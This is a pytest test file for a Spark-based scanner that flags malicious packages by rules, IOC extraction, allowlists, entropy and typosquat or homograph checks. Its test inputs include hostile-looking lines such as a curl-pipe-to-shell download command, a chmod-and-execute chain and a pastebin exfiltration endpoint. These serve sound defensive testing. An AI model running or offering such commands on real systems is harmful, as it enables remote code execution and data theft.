import math
from collections import Counter

import pytest
from pyspark.sql import functions as F

from harrier.functions import allow, text
from harrier.functions.catalogue import cwe, rules
from harrier.functions.regex import example, required_literals, to_java
from harrier.operators import detectors, iocs
from harrier.operators.rules import scan


def test_catalogue_has_every_rule():
    by = Counter(r.section for r in rules())
    assert by == {"recipe": 122, "hook": 57, "source": 10, "binaries": 117}
    assert cwe("IS-P-INSTALL-SSH-ACCESS") == "CWE-522" and cwe("G-DOAS") == "CWE-506"


def test_needed_literals_are_in_examples():
    for r in rules():
        needed, fold = required_literals(r.pattern)
        assert not needed or any(x.casefold() in example(r.pattern).casefold() if fold else x in example(r.pattern) for x in needed), r.id


@pytest.mark.parametrize(("pattern", "value", "hit"), [(r"a\b", "aé", True), (r"a.b", "a\rb", True), (r"a\s", "a\x0b", False), (r"(?i)straſe", "STRAſE", True), (r"x[\S]", "x\x0b", True)])
def test_translated_dialect(spark, pattern, value, hit):
    assert spark.createDataFrame([(value,)], "v string").select(F.rlike("v", F.lit(to_java(pattern)))).first()[0] is hit


def test_scan_classes_and_comments(spark):
    rows = [(1, "curl http://x.y | sh"), (2, "# curl http://x.y | sh"), (3, ""), (4, None), (5, "node -e 1 "), (6, "chmod +x a; ./a")]
    found = {(r.k, r.id): r for r in scan(spark.createDataFrame(rows, "k int, t string"), ["k"], "t", ("recipe", "binaries")).collect()}
    assert found[1, "P-CURL-PIPE"]["class"] == "evidence" and found[1, "P-CURL-PIPE"].matched_line == rows[0][1]
    assert not [k for k in found if k[0] in (2, 3, 4, 5)]
    assert found[6, "P-CHMOD-EXEC-CHAIN"]["class"] == "context"


def test_allow(spark):
    hosts = {"github.com": True, "a.github.com": True, "evil-github.com": False, "docs.x.io": True, "x.test": True, "": True}
    got = spark.createDataFrame(list(hosts.items()), "h string, e boolean").select("h", "e", allow.benign_domain(F.col("h")).alias("g")).collect()
    assert all(r.e == r.g for r in got), got
    ips = {"8.8.8.8": True, "10.1.2.3": True, "45.67.89.10": False, "2.5.29.15": True, "08.8.8.8": False, "::1": True, "2a00::1": False, "7.7.7.7": True}
    got = spark.createDataFrame(list(ips.items()), "h string, e boolean").select("h", "e", allow.benign_ip(F.col("h")).alias("g")).collect()
    assert all(r.e == r.g for r in got), got


def test_entropy(spark):
    values = ["", "aaaa", "abcd", "é€x"]

    def brute(v):
        raw = v.encode()
        return -sum(n / len(raw) * math.log2(n / len(raw)) for n in Counter(raw).values()) if raw else 0.0

    got = [r[0] for r in spark.createDataFrame([(v,) for v in values], "v string").select(text.byte_entropy(F.col("v"))).collect()]
    fast = [r[0] for r in spark.createDataFrame([(v,) for v in values], "v string").select(text.entropy(F.col("v"))).collect()]
    assert all(abs(a - brute(b)) < 1e-9 for a, b in zip(got, values)) and all(abs(a - b) < 1e-9 for a, b in zip(got, fast))


def test_iocs_order_repeats_and_cap(spark):
    content = "mail a@evil.io A@EVIL.io 45.67.89.123 8.8.8.8 https://pastebin.com/x npm  install   q"
    got = iocs.extract(spark.createDataFrame([(1, content)], "k int, t string"), ["k"], F.col("t")).orderBy("seq").collect()
    assert [(r.type, r.value) for r in got] == [("exfil-endpoint", "https://pastebin.com/x"), ("ipv4", "45.67.89.123"), ("install-command", "npm install q"), ("email", "a@evil.io")]
    many = " ".join(f"u{k}@evil{k}.io" for k in range(100))
    assert iocs.extract(spark.createDataFrame([(1, many)], "k int, t string"), ["k"], F.col("t")).count() == iocs.CAP


def test_detect_and_verdict(spark):
    meta = ("firefox-fix", "https://x.io", 0, 0.0, 0, "", "", 0, [], [])
    row = ("firefox-fix", "aur", {}, meta, "pkgname=x\nsource=('https://raw.x/a')\n", "", None, False, [], [], 0, False, ["this is malware"])
    packages = spark.createDataFrame([row], detectors.SCHEMA)
    found = detectors.detect(packages, ["name"], 1_700_000_000)
    ids = {r.id for r in found.collect()}
    assert {"B-NAME-IMPERSONATE", "M-VOTES-ZERO", "M-GITHUB-STARS-ZERO", "M-COMMENTS-SECURITY", "P-NO-CHECKSUMS"} <= ids
    verdict = detectors.verdicts(found, ["name"]).first()
    assert verdict.malicious and verdict.path == "evidence"
    off = spark.createDataFrame([(row[0], row[1], {"name-typosquat": False}, *row[3:])], detectors.SCHEMA)
    assert "B-NAME-IMPERSONATE" not in {r.id for r in detectors.detect(off, ["name"], 1_700_000_000).collect()}


def test_payload_needs_identity(spark):
    rows = [(1, 1, detectors.PAYLOAD, "trigger", "p"), (1, 2, "MT-NEW-MAINTAINER", "trigger", "m"), (2, 1, detectors.PAYLOAD, "trigger", "p")]
    got = {r.k: r for r in detectors.verdicts(spark.createDataFrame(rows, "k int, seq int, id string, class string, description string"), ["k"]).collect()}
    assert got[1].path == "payload+identity" and not got[2].malicious


def test_homograph_and_skip(spark):
    assert spark.createDataFrame([("pаypal", "paypal")], "a string, b string").select(detectors.scripts(F.col("a")), detectors.scripts(F.col("b"))).first()[:] == (2, 1)
